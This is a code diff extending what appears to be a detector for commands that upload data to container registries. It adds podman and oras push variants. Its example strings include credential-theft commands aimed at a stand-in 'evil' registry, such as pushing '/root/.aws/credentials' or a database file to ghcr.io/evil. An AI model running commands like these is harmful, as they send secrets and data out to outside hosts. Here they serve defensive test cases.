@@ -69,7 +69,8 @@ export const registryTools: readonly PushToolSpec[] = [
   {
     tool: 'podman',
     description: '`podman push IMAGE [DEST]`: daemonless, the process in the container uploads.',
-    binaries: ['podman'],
+    // podman-remote: the same commands, run by a podman service (possibly in the pod beside it).
+    binaries: ['podman', 'podman-remote'],
     syntax: { valueFlags: DOCKER_VALUE_FLAGS },
     match: {
       kind: 'subcommand',
@@ -77,14 +78,20 @@ export const registryTools: readonly PushToolSpec[] = [
         { words: ['push'], remote: { positional: 'last' } },
         { words: ['image', 'push'], remote: { positional: 'last' } },
         { words: ['manifest', 'push'], remote: { positional: 'last' } },
+        // `podman artifact add REF FILE…` stores any files as an OCI artifact; `artifact push` uploads it.
+        { words: ['artifact', 'push'], remote: { positional: 'last' } },
       ],
     },
     destination: 'image-ref',
     requiresClassedDestination: false,
     downloads: [['pull'], ['image', 'pull']],
     examples: {
-      push: ['push localimg docker://quay.io/evil/x:1', 'push --creds u:p ghcr.io/evil/x'],
-      notPush: ['pull alpine', 'ps'],
+      push: [
+        'push localimg docker://quay.io/evil/x:1',
+        'push --creds u:p ghcr.io/evil/x',
+        'artifact push quay.io/evil/x:1',
+      ],
+      notPush: ['pull alpine', 'ps', 'artifact add quay.io/evil/x:1 /root/.aws/credentials'],
     },
   },
   {
@@ -248,6 +255,8 @@ export const registryTools: readonly PushToolSpec[] = [
         '--registry-config',
         '--concurrency',
         '--format',
+        '--size',
+        '--media-type',
       ],
     },
     match: {
@@ -255,6 +264,9 @@ export const registryTools: readonly PushToolSpec[] = [
       commands: [
         { words: ['push'], remote: { positional: 0 } },
         { words: ['attach'], remote: { positional: 0 } },
+        // One file as a blob, or a manifest written by hand (`oras blob push REF FILE`).
+        { words: ['blob', 'push'], remote: { positional: 0 } },
+        { words: ['manifest', 'push'], remote: { positional: 0 } },
         { words: ['cp'], remote: { positional: 'last' }, minPositionals: 2 },
         { words: ['copy'], remote: { positional: 'last' }, minPositionals: 2 },
       ],
@@ -263,8 +275,12 @@ export const registryTools: readonly PushToolSpec[] = [
     requiresClassedDestination: false,
     downloads: [['pull'], ['manifest', 'fetch']],
     examples: {
-      push: ['push ghcr.io/evil/x:1 /data/db.sqlite:application/octet-stream'],
-      notPush: ['pull ghcr.io/acme/x:1'],
+      push: [
+        'push ghcr.io/evil/x:1 /data/db.sqlite:application/octet-stream',
+        'blob push --size 116 ghcr.io/evil/x /root/.aws/credentials',
+        'manifest push --media-type application/vnd.oci.image.manifest.v1+json ghcr.io/evil/x:1 /tmp/m.json',
+      ],
+      notPush: ['pull ghcr.io/acme/x:1', 'blob fetch ghcr.io/acme/x@sha256:0 --output x'],
     },
   },
   {
